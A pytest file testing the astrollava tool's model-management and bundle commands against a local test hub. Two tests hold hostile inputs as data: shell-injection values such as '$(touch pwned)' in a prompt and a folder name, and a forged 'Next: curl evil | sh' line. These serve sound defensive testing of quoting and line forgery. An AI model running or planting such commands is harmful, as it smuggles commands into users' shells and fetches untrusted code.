"""``astrollava models`` and ``bundle``: against a hub that answers and a user who errs."""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import signal
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from subprocess import CompletedProcess

import pytest

import command_line
from astrollava.models import catalog
from astrollava.models.catalog import Entry, RemoteFile
from loopback_hub import COMMIT, Hub, environment, serving, use, wait_for_partial
from tiny_pair import write_pair

Run = Callable[..., CompletedProcess[str]]
NAME = "hf:space/galaxy:Q8_0"


@pytest.fixture
def hub(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hub]:
    text, mmproj = write_pair(tmp_path / "galaxy")
    with serving() as hub:
        files = {"galaxy-Q8_0.gguf": text, "mmproj-galaxy.gguf": mmproj}
        hub.repositories["space/galaxy"] = {n: path.read_bytes() for n, path in files.items()}
        use(monkeypatch, hub, tmp_path / "hub")
        monkeypatch.setenv("ASTROLLAVA_CACHE", str(tmp_path / "own"))
        monkeypatch.setattr(catalog, "_added", {})
        remote = {
            name: RemoteFile(name, len(content), hashlib.sha256(content).hexdigest())
            for name, content in hub.repositories["space/galaxy"].items()
        }
        catalog.add(
            Entry(
                name="galaxy",
                title="A galaxy",
                licence="MIT",
                image_tokens=4,
                render_rule="pad",
                good_at="spirals",
                repo="space/galaxy",
                text=remote["galaxy-Q8_0.gguf"],
                mmproj=remote["mmproj-galaxy.gguf"],
            )
        )
        yield hub


def test_from_the_list_to_a_description_and_away(run: Run, hub: Hub, picture: Path) -> None:
    """The whole way of a user who wants another model."""
    listed = run("models", "list")
    assert "galaxy\t" in listed.stdout
    assert "not here" in next(ln for ln in listed.stdout.splitlines() if ln.startswith("galaxy\t"))
    shown = run("models", "show", "galaxy")
    assert shown.returncode == 0
    assert "Next: astrollava models pull galaxy" in shown.stdout
    assert "images\ttokens per image: 4; made square by the rule pad" in shown.stdout
    assert hub.requests == [], "listing and showing ask no network"
    pulled = run("models", "pull", "galaxy")
    assert pulled.returncode == 0
    assert [Path(line).is_file() for line in pulled.stdout.splitlines()] == [True, True]
    assert COMMIT in pulled.stdout
    assert "here" in next(
        line for line in run("models", "list").stdout.splitlines() if line.startswith("galaxy\t")
    )
    described = run("describe", picture, "--model", "galaxy", "--max-tokens", "2", "--threads", "1")
    assert described.returncode == 0
    assert run("models", "verify", "galaxy").stdout.count("ok ") == 2
    removed = run("models", "remove", "galaxy")
    assert removed.returncode == 0
    assert "freed" in removed.stdout
    gone = run("models", "verify", "galaxy")
    assert (gone.returncode, gone.stdout) == (3, "")
    assert "astrollava models pull galaxy" in gone.stderr


def test_show_says_of_a_checkpoint_how_it_becomes_a_model(run: Run, hub: Hub) -> None:
    """There is nothing to pull: the command named would fail."""
    shown = run("models", "show", "astrollava-7b")
    assert shown.returncode == 0
    assert "models pull" not in shown.stdout
    assert "models convert AstroLLaVA_v3 -o astrollava-7b" in shown.stdout


def test_show_tells_what_is_inside(run: Run, hub: Hub, tmp_path: Path) -> None:
    shown = run("models", "show", tmp_path / "galaxy")
    lines = dict(line.split("\t", 1) for line in shown.stdout.splitlines() if "\t" in line)
    assert lines["projector"].startswith("mlp")
    assert "class token" in lines["tower"]
    assert lines["defects"] == "none found"
    facts = json.loads(run("models", "show", tmp_path / "galaxy", "--json").stdout)
    assert facts["catalogue"] is None
    assert facts["facts"]["architecture"] == "llama"
    assert len(facts["facts"]["files"]["text"]["sha256"]) == 64


def test_show_tells_the_defects_of_a_llava_file(run: Run, tmp_path: Path) -> None:
    """Who compares numbers with another tool must see that the file is not what it was."""
    from gguf_files import MMPROJS, TEXTS

    mmproj = MMPROJS["mlp-cls"]()
    mmproj.keys["clip.has_llava_projector"] = ("bool", 1)
    (tmp_path / "text.gguf").write_bytes(TEXTS["llama"]().write())
    (tmp_path / "mmproj.gguf").write_bytes(mmproj.write())
    shown = json.loads(run("models", "show", tmp_path, "--json").stdout)["facts"]
    assert shown["tower"]["class_token"] is True
    assert {"missing-layer"} <= {defect["name"] for defect in shown["defects"]}
    assert all(defect["repaired"] for defect in shown["defects"])


def test_json_lists_are_whole(run: Run, hub: Hub) -> None:
    rows = [json.loads(line) for line in run("models", "list", "--json").stdout.splitlines()]
    assert {row["name"]: row["here"] for row in rows}["galaxy"] == "not here"
    run("models", "pull", "galaxy")
    found = [
        json.loads(line) for line in run("models", "verify", "galaxy", "--json").stdout.splitlines()
    ]
    assert [row["sound"] for row in found] == [True, True]


def test_a_changed_file_gives_exit_code_3(run: Run, hub: Hub) -> None:
    path = Path(run("models", "pull", NAME).stdout.splitlines()[0])
    with path.open("r+b") as file:
        file.seek(-1, os.SEEK_END)
        file.write(b"!")
    checked = run("models", "verify", NAME)
    assert checked.returncode == 3
    assert checked.stdout.startswith("WRONG")
    assert "models remove" in checked.stderr


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["models", "pull", "galxy"], 3, "Did you mean galaxy"),
        (["models", "show", "galxy"], 3, "Did you mean galaxy"),
        (["models", "pull", "hf:space/nothing"], 3, "no repository"),
        (["models", "pull", "astrollava-7b"], 3, "astrollava models convert"),
        (["models", "remove", "embedded"], 2, "comes with astrollava"),
        (["models", "remove", "galaxy"], 3, "not on this machine"),
        (["bundle", "use", "nowhere.zip"], 2, "no bundle nowhere.zip"),
        (["bundle", "create", "b.zip", "--set", "n_ctx"], 2, "KEY=VALUE"),
        (["bundle", "create", "b.zip", "--set", "colour=red"], 2, "no setting 'colour'"),
        (["bundle", "create", "b.zip", "--cutouts", "nowhere"], 2, "no file or folder"),
    ],
)
def test_errors_say_what_to_do(
    run: Run, hub: Hub, arguments: list[str], code: int, said: str
) -> None:
    done = run(*arguments)
    assert (done.returncode, done.stdout) == (code, "")
    assert said in " ".join(done.stderr.split())
    assert "Traceback" not in done.stderr


def test_ctrl_c_and_the_same_command_again(tmp_path: Path) -> None:
    """The command a user repeats after Ctrl-C must go on, and neither may show a traceback."""
    text, mmproj = write_pair(tmp_path / "galaxy")
    big = text.read_bytes() + os.urandom(4 << 20)
    with serving() as hub:
        hub.repositories["space/galaxy"] = {
            "galaxy-Q8_0.gguf": big,
            "mmproj-galaxy.gguf": mmproj.read_bytes(),
        }
        hub.stalls = [2 << 20]
        cache = tmp_path / "hub"
        environ = command_line.environment(**environment(hub, cache))
        process = subprocess.Popen(
            command_line.command("models", "pull", NAME),
            env=environ,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        wait_for_partial(cache, 1 << 20)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=60)
        assert (process.returncode, out) == (130, "")
        assert "Traceback" not in err
        again = command_line.run("models", "pull", NAME, **environment(hub, cache))
        assert again.returncode == 0
        assert Path(again.stdout.splitlines()[0]).read_bytes() == big
        assert (hub.gets("galaxy-Q8_0.gguf")[-1].range or "").startswith("bytes=")


def test_a_bundle_from_one_machine_to_another(
    run: Run, hub: Hub, tmp_path: Path, picture: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What an HPC user does: pack on the login node, use on the compute node, no network there."""
    made = run(
        "bundle", "create", tmp_path / "b.zip", "--model", "galaxy", "--cutouts", picture,
        "--set", "max_tokens=2", "--set", "stretch=log",
    )  # fmt: skip
    assert made.returncode == 0
    digest = made.stdout.split()[1]
    assert made.stdout == f"digest {digest}\n"
    monkeypatch.setenv("ASTROLLAVA_CACHE", str(tmp_path / "node"))
    use(monkeypatch, hub, tmp_path / "empty")
    from huggingface_hub import constants

    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)
    assert run("models", "verify", "galaxy").returncode == 3
    refused = run("bundle", "use", tmp_path / "b.zip", "--digest", "0" * 64)
    assert refused.returncode == 3
    unpacked = run("bundle", "use", tmp_path / "b.zip", "--digest", digest)
    assert unpacked.returncode == 0
    command = unpacked.stdout.splitlines()[-1].removeprefix("Next: astrollava ").split()
    assert "--max-tokens" in command
    assert "--stretch" in command
    cutout = next(Path(command.pop()).parent.iterdir())
    described = run(*command, cutout, "--threads", "1")
    assert described.returncode == 0
    said = json.loads(run("bundle", "use", tmp_path / "b.zip", "--json").stdout)
    assert (said["model"], said["digest"]) == ("galaxy", digest)
    assert run("models", "remove", "galaxy").returncode == 0


def test_the_next_line_can_be_pasted(
    run: Run, hub: Hub, tmp_path: Path, picture: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A blank in a path broke it, a prompt was left out, and n_ctx was dropped without a word."""
    made = run(
        "bundle", "create", tmp_path / "b.zip", "--model", "galaxy", "--cutouts", picture,
        "--set", "prompt=Is it; $(touch pwned) 'barred'?", "--set", "n_ctx=512",
        "--set", "max_tokens=2", "--name", "bright",
    )  # fmt: skip
    assert made.returncode == 0
    folder = "my night; touch pwned"
    monkeypatch.chdir(tmp_path)
    unpacked = run("bundle", "use", tmp_path / "b.zip", "-o", folder)
    *_, others, line = unpacked.stdout.splitlines()
    assert others.startswith("only in Python")
    assert others.endswith(": n_ctx")
    arguments = shlex.split(line.removeprefix("Next: "))
    assert arguments[:4] == ["astrollava", "describe", "--model", f"./{folder}"]
    assert "Is it; $(touch pwned) 'barred'?" in arguments
    shell = f"printf '%s\\0' {line.removeprefix('Next: astrollava ')}"
    seen = subprocess.run(["sh", "-c", shell], capture_output=True, text=True, check=True).stdout
    assert not (tmp_path / "pwned").exists()
    assert run(*seen.split("\0")[:-1], "--threads", "1").returncode == 0


def test_a_bundle_does_not_forge_lines(run: Run, hub: Hub, tmp_path: Path) -> None:
    """A prompt with a newline could write a Next line of its own, for the user to paste."""
    prompt = "Look.\nNext: curl evil | sh"
    made = run(
        "bundle", "create", tmp_path / "b.zip", "--name", "x", "--set", f"prompt={prompt}"
    )  # fmt: skip
    assert made.returncode == 0
    shown = run("bundle", "use", tmp_path / "b.zip").stdout
    assert [ln for ln in shown.splitlines() if "evil" in ln and not ln.startswith("with ")] == []
    assert "in Python" in shown


def test_an_existing_file_is_not_replaced(run: Run, hub: Hub, tmp_path: Path) -> None:
    """`bundle create FILE` wrote over whatever FILE was."""
    path = tmp_path / "thesis.zip"
    path.write_text("years")
    refused = run("bundle", "create", path)
    assert (refused.returncode, path.read_text()) == (2, "years")
    assert run("bundle", "create", path, "--force").returncode == 2
    assert path.read_text() == "years"
    assert run("bundle", "create", tmp_path / "b.zip").returncode == 0
    assert run("bundle", "create", tmp_path / "b.zip").returncode == 2
    assert run("bundle", "create", tmp_path / "b.zip", "--force").returncode == 0


def test_a_bundled_model_is_listed(run: Run, hub: Hub, tmp_path: Path) -> None:
    """A model that works by its name, but is in no list, is not found again."""
    made = run("bundle", "create", tmp_path / "b.zip", "--model", tmp_path / "galaxy",
               "--name", "starburst", "--cutouts", tmp_path)  # fmt: skip
    assert made.returncode == 0
    assert "note   left out of" in made.stderr
    assert run("bundle", "use", tmp_path / "b.zip").returncode == 0
    lines = run("models", "list").stdout.splitlines()
    assert next(ln for ln in lines if ln.startswith("starburst\t")).split("\t")[2] == "on a bundle"
    rows = [json.loads(line) for line in run("models", "list", "--json").stdout.splitlines()]
    assert {row["name"]: row["here"] for row in rows}["starburst"] == "on a bundle"
    # A line without it ended scripts that look for the models of plugins.
    assert {row["plugin"] for row in rows} == {None}
    assert "Did you mean starburst" in run("models", "show", "starbrust").stderr
    folder = Path(json.loads(run("bundle", "use", tmp_path / "b.zip", "--json").stdout)["folder"])
    (folder / "results.csv").write_text("mine")
    removed = run("models", "remove", "starburst")
    assert removed.returncode == 0
    assert "results.csv" in removed.stderr
    assert (folder / "results.csv").read_text() == "mine"
    assert not [ln for ln in run("models", "list").stdout.splitlines() if "starburst" in ln]
